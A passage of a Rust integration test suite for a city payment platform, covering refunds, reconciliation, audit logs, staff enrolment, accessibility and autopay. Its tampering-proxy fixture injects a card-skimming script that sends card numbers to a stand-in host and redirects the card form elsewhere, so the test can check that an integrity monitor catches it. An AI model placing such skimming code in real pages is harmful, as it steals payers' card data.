    assert_eq!(charged.status(), 303);
    let back = charged.headers()["location"].to_str().unwrap().to_owned();
    assert!(
        back.starts_with(&format!("{portal}/springfield/staff/phone-payments/")),
        "{back}"
    );
    let (_, result) = clerk.page(&client, &back).await;
    assert!(result.contains("Phone payment taken"), "{result}");
    assert!(result.contains("Visa •••• 4242"));
    let payment_path = between(&result, "<p><a href=\"", "\"").to_owned();
    // A clerk may not refund.
    let (status, _) = clerk
        .page(&client, &format!("{portal}/springfield/staff/refunds"))
        .await;
    assert_eq!(status, 403);

    // A supervisor asks for a refund above the threshold: it waits.
    let (_, payment_page) = sup1.page(&client, &format!("{portal}{payment_path}")).await;
    assert!(
        payment_page.contains("Refund this payment"),
        "{payment_page}"
    );
    let asked = sup1
        .submit(
            &client,
            &format!("{portal}{payment_path}/refund"),
            &payment_page,
            &[
                ("amount", "20.00"),
                ("reason", "Citation dismissed on appeal"),
            ],
        )
        .await;
    assert_eq!(asked.status(), 303);
    let (_, pending) = sup1
        .page(&client, &format!("{portal}/springfield/staff/refunds"))
        .await;
    assert!(pending.contains("Your own request"), "{pending}");
    let (_, pending_for_sup2) = sup2
        .page(&client, &format!("{portal}/springfield/staff/refunds"))
        .await;
    let decision = format!(
        "/springfield/staff/refunds/{}",
        between(
            &pending_for_sup2,
            "action=\"/springfield/staff/refunds/",
            "\""
        )
    );
    // The requester cannot approve it, even by posting the form directly.
    let own = sup1
        .submit(
            &client,
            &format!("{portal}{decision}"),
            &pending,
            &[("decision", "approve")],
        )
        .await;
    assert_eq!(own.status(), 403);
    let approved = sup2
        .submit(
            &client,
            &format!("{portal}{decision}"),
            &pending_for_sup2,
            &[("decision", "approve")],
        )
        .await;
    assert_eq!(approved.status(), 303);
    let (_, after) = sup1.page(&client, &format!("{portal}{payment_path}")).await;
    assert!(after.contains("<td>refunded</td>"), "{after}");

    // Finance downloads the day; it agrees with the acquirer.
    let (_, recon) = finance
        .page(
            &client,
            &format!("{portal}/springfield/staff/reports/reconciliation"),
        )
        .await;
    assert!(
        recon.contains("Our ledger and the acquirer agree"),
        "{recon}"
    );
    assert!(
        recon.contains("<dt>Payments matched with the acquirer</dt><dd>1</dd>"),
        "{recon}"
    );
    // By card brand: the phone payment's Visa, ours beside the acquirer's.
    let visa = between(&recon, "<th scope=\"row\">Visa</th>", "</tr>");
    let cells: Vec<&str> = visa
        .split("<td class=\"amount\">")
        .skip(1)
        .map(|c| c.split("</td>").next().unwrap_or_default())
        .collect();
    assert_eq!(cells.len(), 4, "{visa}");
    assert_eq!(
        (cells[0], cells[1]),
        (cells[2], cells[3]),
        "ours and the acquirer's agree: {visa}"
    );
    assert!(cells[1].contains("20.00"), "the refund: {visa}");
    let csv_href = between(&recon, "<p><a href=\"", "\"").replace("&amp;", "&");
    let csv = get(&client, &mut finance.jar, &format!("{portal}{csv_href}")).await;
    assert_eq!(csv.headers()["content-type"], "text/csv; charset=utf-8");
    let csv = csv.text().await.unwrap();
    assert!(
        csv.starts_with("date,time_zone,currency,bill_type,gl_code,captured,refunded,net\n"),
        "{csv}"
    );
    assert!(
        csv.contains(",20.00,"),
        "the refund is in the day's figures: {csv}"
    );
    assert!(!csv.contains("DIFFERENCE"), "{csv}");
    // And the payment search as GL lines, through pay's real ledger: the
    // phone payment's line in, the refund's line out.
    let (_, search) = finance
        .page(&client, &format!("{portal}/springfield/staff/payments"))
        .await;
    let lines_href = between(&search, "<p><a href=\"", "\"").replace("&amp;", "&");
    assert!(lines_href.contains("/payments.csv?"), "{lines_href}");
    let lines = get(&client, &mut finance.jar, &format!("{portal}{lines_href}"))
        .await
        .text()
        .await
        .unwrap();
    let kinds: Vec<(&str, &str)> = lines
        .lines()
        .skip(1)
        .map(|l| {
            let cells: Vec<&str> = l.split(',').collect();
            (cells[3], cells[5])
        })
        .collect();
    assert!(kinds.contains(&("refund", "-20.00")), "{lines}");
    assert!(kinds.iter().any(|(k, _)| *k == "payment"), "{lines}");

    // The auditor sees every step, and the chain holds.
    let (_, log) = auditor
        .page(&client, &format!("{portal}/springfield/staff/audit"))
        .await;
    for action in [
        "payment.phone_started",
        "payment.phone_finished",
        "refund.requested",
        "refund.approved",
        "refund.issued",
        "export.downloaded",
        "setting.changed",
        "staff.created",
    ] {
        assert!(log.contains(action), "{action} in the audit log");
    }
    for who in [&clerk.email, &sup1.email, &sup2.email, &finance.email] {
        assert!(log.contains(who.as_str()), "{who} in the audit log");
    }
    let verified = civicpay(&["audit", "verify", "--tenant", "springfield"]);
    assert!(
        verified.status.success(),
        "{}",
        String::from_utf8_lossy(&verified.stdout)
    );
}

/// Creates a staff member with `civicpay staff create`, then in the
/// browser enrols them (a wrong confirmation first), keeps the recovery
/// codes and signs in with both factors, with axe-core on every page.
async fn enrol_in_browser(
    client: &civicpay_testkit::Client,
    running: &Running,
    portal: &str,
    email: &str,
    role: &[&str],
) {
    use civicpay_identity::TotpSecret;
    use civicpay_testkit::{Locator, assert_accessible, click_and_wait, text_of};
    let created = Command::new(env!("CARGO_BIN_EXE_civicpay"))
        .args(["staff", "create", "--email", email])
        .args(role)
        .env("CIVICPAY_DATA_DIR", &running.dir)
        .env("CIVICPAY_LOG", "warn")
        .env_remove("DATABASE_URL")
        .output()
        .unwrap();
    assert!(created.status.success(), "{created:?}");
    let link = String::from_utf8(created.stdout).unwrap();
    let path = url::Url::parse(link.trim()).unwrap().path().to_owned();
    let type_into = |id: &'static str, value: String| async move {
        let field = client.find(Locator::Id(id)).await.unwrap();
        field.clear().await.unwrap();
        field.send_keys(&value).await.unwrap();
    };
    client.goto(&format!("{portal}{path}")).await.unwrap();
    assert_accessible(client, "enrolment").await;
    let secret = TotpSecret::from_base32(&text_of(client, "code.secret").await).unwrap();
    type_into("password", STAFF_PASSWORD.into()).await;
    type_into("confirm", "not the same at all".into()).await;
    type_into("code", secret.code_at(unix_now())).await;
    click_and_wait(client, Locator::Css("main form button[type=submit]")).await;
    assert!(
        text_of(client, ".error-summary")
            .await
            .contains("not the same")
    );
    assert_accessible(client, "enrolment with errors").await;
    type_into("password", STAFF_PASSWORD.into()).await;
    type_into("confirm", STAFF_PASSWORD.into()).await;
    type_into("code", secret.code_at(unix_now())).await;
    click_and_wait(client, Locator::Css("main form button[type=submit]")).await;
    assert!(text_of(client, "h1").await.contains("recovery codes"));
    assert_accessible(client, "recovery codes").await;
    click_and_wait(client, Locator::Css("main p a")).await;

    assert_accessible(client, "sign-in").await;
    type_into("email", email.into()).await;
    type_into("password", STAFF_PASSWORD.into()).await;
    click_and_wait(client, Locator::Css("main form button[type=submit]")).await;
    assert_accessible(client, "second factor").await;
    type_into("code", secret.code_at(unix_now() + 30)).await;
    click_and_wait(client, Locator::Css("main form button[type=submit]")).await;
    assert!(
        text_of(client, "main")
            .await
            .contains(&format!("Signed in as {email}"))
    );
    assert_accessible(client, "console home").await;
}

/// The platform console in a real browser, with axe-core and the width
/// check on every page: the cities, the new-city form refused and then
/// taken, and a city's page with its pause.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_platform_console_in_a_real_browser_is_accessible() {
    use civicpay_testkit::{
        Locator, assert_accessible, assert_fits, click_and_wait, enabled, start_browser, text_of,
    };
    if !enabled() {
        eprintln!(
            "browser tests skipped: set CIVICPAY_BROWSER_TESTS=1 (needs chromium and chromium-driver)"
        );
        return;
    }
    let (running, portal, pay) = start_demo("platform-browser").await;
    let (_driver, client, _profile) = start_browser().await;
    enrol_in_browser(
        &client,
        &running,
        &portal,
        "ops@platform.example",
        &["--role", "platform_operator"],
    )
    .await;
    assert_fits(&client, "cities").await;
    click_and_wait(&client, Locator::Css("main a.button")).await;
    assert_accessible(&client, "new city").await;
    assert_fits(&client, "new city").await;
    let type_into = |id: &'static str, value: &'static str| {
        let client = client.clone();
        async move {
            let field = client.find(Locator::Id(id)).await.unwrap();
            field.clear().await.unwrap();
            field.send_keys(value).await.unwrap();
        }
    };
    type_into("slug", "Riverton!").await;
    click_and_wait(
        &client,
        Locator::Css("main form:not(.inline-form) button[type=submit]"),
    )
    .await;
    assert!(
        text_of(&client, ".error-summary")
            .await
            .contains("lower-case letters")
    );
    assert_accessible(&client, "new city with errors").await;
    assert_fits(&client, "new city with errors").await;
    for (id, value) in [
        ("slug", "riverton"),
        ("name_en", "City of Riverton"),
        ("time_zone", "America/Denver"),
        ("contact_name", "Riverton Treasury"),
        ("contact_postal_address", "1 Main St, Riverton, WY 82501"),
        ("contact_phone", "+1 307-555-0100"),
        ("contact_email", "treasury@riverton.example"),
        ("bill_slug", "water"),
        ("bill_name_en", "Water"),
        ("bill_gl_code", "100-4410"),
    ] {
        type_into(id, value).await;
    }
    click_and_wait(
        &client,
        Locator::Css("main form:not(.inline-form) button[type=submit]"),
    )
    .await;
    assert_eq!(text_of(&client, "h1").await, "City of Riverton");
    assert_accessible(&client, "a city's page").await;
    assert_fits(&client, "a city's page").await;
    // Pay took the new city: a payment for it can be made with its key.
    let key = Command::new(env!("CARGO_BIN_EXE_civicpay"))
        .args([
            "api-key",
            "create",
            "--tenant",
            "riverton",
            "--service",
            "pay",
            "--label",
            "e2e",
        ])
        // As an operator runs it: with the deployment's own addresses.
        .env("CIVICPAY_PORTAL_ADDR", portal.trim_start_matches("http://"))
        .env("CIVICPAY_PAY_ADDR", pay.trim_start_matches("http://"))
        .env("CIVICPAY_DATA_DIR", &running.dir)
        .env("CIVICPAY_LOG", "warn")
        .env_remove("DATABASE_URL")
        .output()
        .unwrap();
    assert!(key.status.success(), "{key:?}");
    let key = String::from_utf8(key.stdout).unwrap().trim().to_owned();
    let create = async || {
        reqwest::Client::new()
            .post(format!("{pay}/v1/payments"))
            .bearer_auth(&key)
            .json(&serde_json::json!({
                "amount": 1500, "currency": "USD", "reference": "RV-1", "description": "Water",
                "return_url": format!("{portal}/riverton/"), "language": "en"
            }))
            .send()
            .await
            .unwrap()
    };
    let created = create().await;
    assert_eq!(
        created.status(),
        reqwest::StatusCode::CREATED,
        "{}",
        created.text().await.unwrap()
    );
    click_and_wait(&client, Locator::Css("form[action$='/pause'] button")).await;
    assert!(
        text_of(&client, "main")
            .await
            .contains("Payments are paused")
    );
    assert_accessible(&client, "a paused city's page").await;
    assert_eq!(
        create().await.status(),
        reqwest::StatusCode::CONFLICT,
        "pay refuses the paused city's payments at once, without a restart"
    );
    client.close().await.unwrap();
}

/// The console in a real browser with axe-core on every page: enrolment
/// (with the server-drawn QR code), both sign-in steps, a phone payment
/// keyed on pay's masked card page, and the pages that follow.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_phone_payment_in_a_real_browser_and_every_console_page_is_accessible() {
    use civicpay_testkit::{
        Locator, assert_accessible, click_and_wait, enabled, start_browser, text_of,
    };
    if !enabled() {
        eprintln!(
            "browser tests skipped: set CIVICPAY_BROWSER_TESTS=1 (needs chromium and chromium-driver)"
        );
        return;
    }
    let (running, portal, pay) = start_demo("staff-browser").await;
    let (_driver, client, _profile) = start_browser().await;
    let type_into = |id: &'static str, value: String| {
        let client = client.clone();
        async move {
            let field = client.find(Locator::Id(id)).await.unwrap();
            field.clear().await.unwrap();
            field.send_keys(&value).await.unwrap();
        }
    };
    enrol_in_browser(
        &client,
        &running,
        &portal,
        "dana@springfield.gov",
        &["--tenant", "springfield", "--role", "administrator"],
    )
    .await;

    client
        .goto(&format!(
            "{portal}/springfield/staff/bills?q=PK-2026-004000"
        ))
        .await
        .unwrap();
    assert_accessible(&client, "bill search").await;
    click_and_wait(
        &client,
        Locator::Css("form[action*='phone-payment'] button"),
    )
    .await;
    let url = client.current_url().await.unwrap().to_string();
    assert!(
        url.starts_with(&format!("{pay}/card/")),
        "the card is keyed on pay's origin: {url}"
    );
    let number_type = client
        .find(Locator::Id("card-number"))
        .await
        .unwrap()
        .attr("type")
        .await
        .unwrap();
    assert_eq!(
        number_type.as_deref(),
        Some("password"),
        "masked while the clerk types"
    );
    assert_accessible(&client, "phone payment card page").await;
    for (id, value) in [
        ("cardholder-name", "Cy Roy"),
        ("card-number", "4242 4242 4242 4242"),
        ("expiry", "12/30"),
        ("security-code", "123"),
        ("postal-code", "62704"),
    ] {
        type_into(id, value.into()).await;
    }
    click_and_wait(&client, Locator::Css("button[type=submit]")).await;
    let url = client.current_url().await.unwrap().to_string();
    assert!(
        url.starts_with(&format!("{portal}/springfield/staff/phone-payments/")),
        "{url}"
    );
    assert!(
        text_of(&client, "main")
            .await
            .contains("Phone payment taken")
    );
    assert_accessible(&client, "phone payment result").await;
    click_and_wait(&client, Locator::Css("main p a")).await;
    assert!(
        text_of(&client, "main")
            .await
            .contains("Refund this payment")
    );
    assert_accessible(&client, "payment page").await;

    let console_pages = [
        ("/payments?channel=moto", "payment search"),
        ("/refunds", "refund approvals"),
        ("/reports/reconciliation", "reconciliation"),
        ("/audit", "audit log"),
        ("/team", "staff"),
        ("/settings", "settings"),
        ("/settings/contact", "contact for residents"),
        ("/settings/languages", "languages for residents"),
        ("/settings/bill-types", "bill types"),
        ("/settings/bill-types/property-tax", "a bill type"),
        ("/residents", "resident support"),
        (
            "/bills?q=4691-000-765",
            "bill search with a part-payment amount",
        ),
        (
            "/residents?email=nobody%40example.org",
            "resident support, no such account",
        ),
        ("/payments?last4=12", "payment search with a wrong filter"),
    ];
    for (page, what) in console_pages {
        client
            .goto(&format!("{portal}/springfield/staff{page}"))
            .await
            .unwrap();
        assert_accessible(&client, what).await;
        civicpay_testkit::assert_fits(&client, what).await;
    }
    // The last page: the wrong filter's error is on its own field, and the
    // summary links there.
    assert!(
        text_of(&client, "#last4-error")
            .await
            .contains("type exactly four digits")
    );
    assert!(
        text_of(&client, ".error-summary a[href='#last4']")
            .await
            .contains("four digits")
    );
    client
        .goto(&format!("{portal}/springfield/staff/settings"))
        .await
        .unwrap();
    assert!(
        text_of(&client, "main")
            .await
            .contains("Refunds on one payment above this amount")
    );

    // The console in French, chosen from the bar on every page: each page
    // again, with axe-core, the width check and no untranslated key; then
    // back to English for what follows.
    let choose = |code: &'static str| {
        let client = client.clone();
        async move {
            client
                .find(Locator::Css(&format!(
                    "#console-language option[value='{code}']"
                )))
                .await
                .unwrap()
                .click()
                .await
                .unwrap();
            click_and_wait(&client, Locator::Css("form[action$='/language'] button")).await;
        }
    };
    choose("fr").await;
    assert!(
        text_of(&client, "main")
            .await
            .contains("Les remboursements d'un même paiement"),
        "the chooser returns to the same page, now in French"
    );
    for (page, what) in console_pages {
        client
            .goto(&format!("{portal}/springfield/staff{page}"))
            .await
            .unwrap();
        let what = format!("{what}, in French");
        assert_accessible(&client, &what).await;
        civicpay_testkit::assert_fits(&client, &what).await;
        let html = client.source().await.unwrap();
        assert!(html.contains(r#"<html lang="fr">"#), "{what}");
        assert!(!html.contains('⟦'), "{what}: untranslated key");
        assert!(
            !html.contains("Sign out everywhere"),
            "{what}: still English"
        );
    }
    choose("en").await;

    // Branding: a refused colour names both ratios on its field; a good one
    // reaches residents' pages, and the browser applies it under the CSP
    // (a style the policy refused would leave the link its default blue).
    client
        .goto(&format!("{portal}/springfield/staff/settings/branding"))
        .await
        .unwrap();
    assert_accessible(&client, "branding").await;
    civicpay_testkit::assert_fits(&client, "branding").await;
    type_into("accent", "#ffdd00".into()).await;
    click_and_wait(&client, Locator::Css("form[action$='/branding'] button")).await;
    assert!(
        text_of(&client, "#accent-error")
            .await
            .contains("against white")
    );
    assert_accessible(&client, "branding, a refused colour").await;
    type_into("accent", "#c0392b".into()).await;
    click_and_wait(&client, Locator::Css("form[action$='/branding'] button")).await;
    let logo = std::env::temp_dir().join(format!("civicpay-logo-{}.png", std::process::id()));
    let mut png = Vec::new();
    image::RgbaImage::from_pixel(300, 100, image::Rgba([0x1d, 0x70, 0xb8, 255]))
        .write_to(&mut std::io::Cursor::new(&mut png), image::ImageFormat::Png)
        .unwrap();
    std::fs::write(&logo, png).unwrap();
    client
        .find(Locator::Id("logo"))
        .await
        .unwrap()
        .send_keys(&logo.to_string_lossy())
        .await
        .unwrap();
    click_and_wait(&client, Locator::Css("form[action$='/logo'] button")).await;
    let _ = std::fs::remove_file(&logo);
    assert!(
        text_of(&client, "main")
            .await
            .contains("The logo is saved.")
    );
    assert_accessible(&client, "branding with a logo").await;
    client
        .goto(&format!("{portal}/springfield/"))
        .await
        .unwrap();
    let drawn = client
        .execute(
            "const a = document.querySelector('.card-list a'); \
             const img = document.querySelector('.site-header .brand img'); \
             return [getComputedStyle(a).color, img.naturalWidth, img.naturalHeight];",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(drawn, serde_json::json!(["rgb(192, 57, 43)", 300, 100]));
    assert_accessible(&client, "a branded city's home").await;
    civicpay_testkit::assert_fits(&client, "a branded city's home").await;
    client.close().await.unwrap();
}

/// How the tampering proxy changes the card page on its way to the browser.
#[derive(Clone, Copy)]
enum Tamper {
    AddScript,
    ChangeStylesheetByte,
    DropCsp,
    WeakenCsp,
    MoveFormAction,
}

/// A man in the middle in front of pay that alters what the card page
/// sends, the way a compromised server or proxy would.
async fn tampering_proxy(pay: String, tamper: Tamper) -> String {
    use axum::body::Body;
    use axum::extract::Request;
    use axum::response::Response;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let me = format!("http://{}", listener.local_addr().unwrap());
    let me_too = me.clone();
    let handler = move |request: Request| {
        let (pay, me) = (pay.clone(), me_too.clone());
        async move {
            let (parts, body) = request.into_parts();
            let body = axum::body::to_bytes(body, 1 << 20).await.unwrap();
            let client = reqwest::Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                .build()
                .unwrap();
            let mut forward = client.request(parts.method.clone(), format!("{pay}{}", parts.uri));
            for (k, v) in &parts.headers {
                if k != "host" {
                    forward = forward.header(k, v);
                }
            }
            let answer = forward.body(body).send().await.unwrap();
            let status = answer.status();
            let mut headers = answer.headers().clone();
            let mut text = answer.text().await.unwrap().replace(&pay, &me);
            // Card pages only (the monitor opens them like a payer does).
            let path = parts.uri.path();
            if parts.method == axum::http::Method::GET
                && path.starts_with("/card/")
                && !path.starts_with("/card/start/")
            {
                match tamper {
                    Tamper::AddScript => text = text.replace("</head>", "<script>document.forms[0].onsubmit=()=>fetch('https://x.example/'+document.forms[0].card_number.value)</script></head>"),
                    Tamper::ChangeStylesheetByte => text = text.replacen("{", "{ ", 1),
                    Tamper::DropCsp => {
                        headers.remove("content-security-policy");
                    }
                    Tamper::WeakenCsp => {
                        let csp = headers["content-security-policy"].to_str().unwrap().replace("default-src 'none'", "default-src 'none'; script-src 'unsafe-inline'");
                        headers.insert("content-security-policy", csp.parse().unwrap());
                    }
                    Tamper::MoveFormAction => text = text.replace("action=\"/card/", "action=\"https://collect.example/card/"),
                }
            }
            headers.remove("content-length");
            let mut response = Response::new(Body::from(text));
            *response.status_mut() = status;
            *response.headers_mut() = headers;
            response
        }
    };
    tokio::spawn(async move {
        let _ = axum::serve(listener, axum::Router::new().fallback(handler)).await;
    });
    me
}

/// The monitor passes the real page and catches each tampering with a
/// non-zero exit, an audit-log entry and an e-mail to the city.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_monitor_catches_each_change_to_the_card_page() {
    let (running, _portal, pay) = start_demo("monitor").await;
    let monitor = |url: &str| {
        Command::new(env!("CARGO_BIN_EXE_civicpay"))
            .args(["monitor", "--url", url, "--tenant", "springfield", "--once"])
            .env("CIVICPAY_DATA_DIR", &running.dir)
            .env("CIVICPAY_LOG", "off")
            .env_remove("DATABASE_URL")
            .output()
            .unwrap()
    };
    let clean = monitor(&pay);
    let report = String::from_utf8_lossy(&clean.stdout).into_owned();
    assert!(
        clean.status.success(),
        "{report}{}",
        String::from_utf8_lossy(&clean.stderr)
    );
    assert!(report.starts_with("ok: "), "{report}");

    let manifest = Command::new(env!("CARGO_BIN_EXE_civicpay"))
        .args(["integrity", "manifest"])
        .env("CIVICPAY_DATA_DIR", &running.dir)
        .env("CIVICPAY_LOG", "off")
        .env_remove("DATABASE_URL")
        .output()
        .unwrap();
    let manifest: serde_json::Value = serde_json::from_slice(&manifest.stdout).unwrap();
    assert!(
        manifest["assets"]
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a["path"] == "pay/templates/card.html")
    );

    for (tamper, expected) in [
        (Tamper::AddScript, "element added: script sha256="),
        (Tamper::ChangeStylesheetByte, "matches no asset"),
        (Tamper::DropCsp, "header content-security-policy: missing"),
        (Tamper::WeakenCsp, "script-src 'unsafe-inline'"),
        (
            Tamper::MoveFormAction,
            "form added: post https://collect.example/card/{id}/{id}",
        ),
    ] {
        let proxy = tampering_proxy(pay.clone(), tamper).await;
        let caught = monitor(&proxy);
        let report = String::from_utf8_lossy(&caught.stdout).into_owned();
        assert_eq!(caught.status.code(), Some(1), "{report}");
        assert!(
            report.contains("ALARM") && report.contains(expected),
            "{expected}: {report}"
        );
    }
    let outbox: Vec<_> = std::fs::read_dir(running.dir.join("outbox"))
        .unwrap()
        .flatten()
        .collect();
    let alarms = outbox
        .iter()
        .filter(|m| {
            std::fs::read_to_string(m.path())
                .unwrap()
                .contains("SECURITY ALARM")
        })
        .count();
    assert_eq!(alarms, 5, "the city's contact is told each time");
    let verify = Command::new(env!("CARGO_BIN_EXE_civicpay"))
        .args(["audit", "verify", "--tenant", "springfield"])
        .env("CIVICPAY_DATA_DIR", &running.dir)
        .env_remove("DATABASE_URL")
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&verify.stdout).contains("5 entries"),
        "{}",
        String::from_utf8_lossy(&verify.stdout)
    );
}

/// With `monitor_interval_secs` set, the serving process checks its own
/// card page against its manifest on a timer.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn serve_watches_its_own_card_page_when_configured() {
    let (running, _portal, _pay) = start_demo_logging(
        "self-watch",
        Some(("info", "serve.log")),
        &[("CIVICPAY_MONITOR_INTERVAL_SECS", "1")],
    )
    .await;
    let log = running.dir.join("serve.log");
    let mut seen = String::new();
    for _ in 0..60 {
        seen = std::fs::read_to_string(&log).unwrap_or_default();
        if seen.contains("card page matches its manifest") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(seen.contains("card page matches its manifest"), "{seen}");
    assert!(!seen.contains("TAMPER ALARM"), "{seen}");
}

const RESIDENT_PASSWORD: &str = "copper kettle whistles under seven moons";

/// Runs `civicpay` with the demo's data folder (and database, if `env`
/// names PostgreSQL); returns its stdout.
fn civicpay_in(dir: &std::path::Path, env: &[(&str, &str)], args: &[&str]) -> std::process::Child {
    Command::new(env!("CARGO_BIN_EXE_civicpay"))
        .args(args)
        .env("CIVICPAY_DATA_DIR", dir)
        .env_remove("DATABASE_URL")
        .envs(env.iter().copied())
        .env("CIVICPAY_LOG", "warn")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

fn finished(child: std::process::Child) -> String {
    let output = child.wait_with_output().unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

/// Posts the form on `url`'s page with its form token.
async fn submit(
    client: &reqwest::Client,
    jar: &mut Jar,
    url: &str,
    fields: &[(&str, &str)],
) -> reqwest::Response {
    let page = get(client, jar, url).await.text().await.unwrap();
    let token = form_token(&page);
    let mut form = vec![("form_token", token.as_str())];
    form.extend_from_slice(fields);
    post(client, jar, url, &form).await
}

/// A French-speaking resident signs up, confirms her address from the
/// e-mail, links her water account, pays a bill and saves the card, then
/// turns on autopay; `runners` instances of `civicpay jobs run` race on the
/// due date, and the bill is paid exactly once, with a receipt e-mail in
/// French. Every file written is then scanned for the card number.
async fn resident_autopay(name: &str, env: &[(&str, &str)], runners: usize) {
    use civicpay_testkit::outbox;
    let (running, portal, pay) =
        start_demo_logging(name, Some(("debug", "civicpay.log")), env).await;
    let dir = running.dir.clone();
    let inbox = dir.join("outbox");
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let mut jar = Jar::default();
    let account = format!("{portal}/springfield/account");
    get(&client, &mut jar, &format!("{account}/sign-up?lang=fr")).await;
    let signed_up = submit(
        &client,
        &mut jar,
        &format!("{account}/sign-up"),
        &[
            ("email", "marie@example.org"),
            ("password", RESIDENT_PASSWORD),
        ],
    )
    .await;
    assert_eq!(signed_up.status(), 200);
    let welcome = outbox::to(&inbox, "marie@example.org");
    assert!(
        welcome[0]
            .subject
            .starts_with("Confirmez votre adresse courriel")
    );
    let verify = outbox::link(&welcome[0], "/verify/");
    assert_eq!(get(&client, &mut jar, &verify).await.status(), 303);
    let signed_in = submit(
        &client,
        &mut jar,
        &format!("{account}/sign-in"),
        &[
            ("email", "marie@example.org"),
            ("password", RESIDENT_PASSWORD),
        ],
    )
    .await;
    assert_eq!(signed_in.status(), 303);

    // Two bills on a new water account: one to pay by hand, one due today
    // in Springfield (America/Chicago).
    let today = jiff::Timestamp::now()
        .to_zoned(jiff::tz::TimeZone::get("America/Chicago").unwrap())
        .date();
    let later = today
        .checked_add(jiff::SignedDuration::from_hours(24 * 20))
        .unwrap();
    let bills = dir.join("bills.csv");
    std::fs::write(
        &bills,
        format!(
            "external_id,bill_type,reference,verification,payer_name,postal_address,email,amount,due_date\n\
             AUTO-1,water,7000-00001,62704,Marie Côté,1 Elm St,,18.00,{later}\n\
             AUTO-2,water,7000-00001,62704,Marie Côté,1 Elm St,,42.00,{today}\n"
        ),
    )
    .unwrap();
    finished(civicpay_in(
        &dir,
        env,
        &[
            "bills",
            "import",
            "--tenant",
            "springfield",
            bills.to_str().unwrap(),
        ],
    ));
    let linked = submit(
        &client,
        &mut jar,
        &format!("{account}/link"),
        &[
            ("bill_type", "water"),
            ("reference", "7000-00001"),
            ("verification", "62704"),
        ],
    )
    .await;
    assert_eq!(linked.status(), 303);

    // Pay the later bill by hand, saving the card.
    let home = get(&client, &mut jar, &format!("{account}/"))
        .await
        .text()
        .await
        .unwrap();
    let pay_action = between(
        &home,
        "<form method=\"post\" action=\"/springfield/bills/",
        "\"",
    )
    .to_owned();
    let token = form_token(&home);
    let to_pay = post(
        &client,
        &mut jar,
        &format!("{portal}/springfield/bills/{pay_action}"),
        &[("form_token", &token)],
    )
    .await;
    let next_url = to_pay.headers()["location"].to_str().unwrap().to_owned();
    let mut card_jar = Jar::default();
    let started = get(&client, &mut card_jar, &next_url).await;
    let card_url = format!("{pay}{}", started.headers()["location"].to_str().unwrap());
    let card_page = get(&client, &mut card_jar, &card_url)
        .await
        .text()
        .await
        .unwrap();
    assert!(
        card_page.contains("name=\"save_card\""),
        "a signed-in resident is offered to save the card"
    );
    let card_token = form_token(&card_page);
    let paid = post(
        &client,
        &mut card_jar,
        &card_url,
        &[
            ("form_token", &card_token),
            ("cardholder_name", "Marie Cote"),
            ("card_number", "4242 4242 4242 4242"),
            ("expiry", "12/30"),
            ("security_code", "731"),
            ("postal_code", "62704"),
            ("email", ""),
            ("save_card", "yes"),
        ],
    )
    .await;
    assert_eq!(paid.status(), 303);
    let back = paid.headers()["location"].to_str().unwrap().to_owned();
    assert_eq!(get(&client, &mut jar, &back).await.status(), 200);
    let cards = get(&client, &mut jar, &format!("{account}/cards"))
        .await
        .text()
        .await
        .unwrap();
    assert!(cards.contains("Visa •••• 4242"), "{cards}");

    // Autopay, with the password again.
    let home = get(&client, &mut jar, &format!("{account}/"))
        .await
        .text()
        .await
        .unwrap();
    let autopay = format!(
        "{portal}/springfield/account/autopay/{}",
        between(&home, "href=\"/springfield/account/autopay/", "\"")
    );
    let form = get(&client, &mut jar, &autopay).await.text().await.unwrap();
    let card = between(&form, "<option value=\"", "\"").to_owned();
    let wrong = submit(
        &client,
        &mut jar,
        &autopay,
        &[
            ("card", &card),
            ("cap", "100,00"),
            ("password", "not my password at all"),
        ],
    )
    .await;
    assert_eq!(wrong.status(), 422, "enrolment needs the password");
    let on = submit(
        &client,
        &mut jar,
        &autopay,
        &[
            ("card", &card),
            ("cap", "100,00"),
            ("password", RESIDENT_PASSWORD),
        ],
    )
    .await;
    assert_eq!(on.status(), 303);
    let notice = outbox::to(&inbox, "marie@example.org");
    assert!(
        notice.iter().any(|m| m
            .subject
            .starts_with("Votre paiement automatique a été modifié")),
        "an enrolment notice"
    );

    // The due date: runners race; the bill is paid once. The job runners
    // share the demo's configuration (its portal address is where autopay
    // payments return to, and the city allows only that).
    let env: Vec<(&str, &str)> = env
        .iter()
        .copied()
        .chain([("CIVICPAY_PORTAL_PUBLIC_URL", portal.as_str())])
        .collect();
    let env = env.as_slice();
    let runs: Vec<_> = (0..runners)
        .map(|_| civicpay_in(&dir, env, &["jobs", "run", "--pay-url", &pay]))
        .collect();
    let reports: Vec<serde_json::Value> = runs
        .into_iter()
        .map(|r| serde_json::from_str(finished(r).trim()).unwrap())
        .collect();
    let paid_by_runners: u64 = reports.iter().map(|r| r["paid"].as_u64().unwrap()).sum();
    assert!(paid_by_runners <= 1, "{reports:?}");
    let again = serde_json::from_str::<serde_json::Value>(
        finished(civicpay_in(&dir, env, &["jobs", "run", "--pay-url", &pay])).trim(),
    )
    .unwrap();
    assert_eq!(again["paid"], 0, "nothing is paid twice: {again}");
    let key = pay_api_key(&dir, &portal, env);
    let listed: serde_json::Value = client
        .get(format!("{pay}/v1/payments?reference=7000-00001"))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let payments = listed["results"].as_array().expect("a list of payments");
    let autopaid: Vec<_> = payments
        .iter()
        .filter(|p| p["channel"] == "autopay")
        .collect();
    assert_eq!(autopaid.len(), 1, "one autopay payment: {listed}");
    assert_eq!(autopaid[0]["state"]["status"], "success", "{listed}");
    assert_eq!(autopaid[0]["amount"], 4200);
    let history = get(&client, &mut jar, &format!("{account}/payments"))
        .await
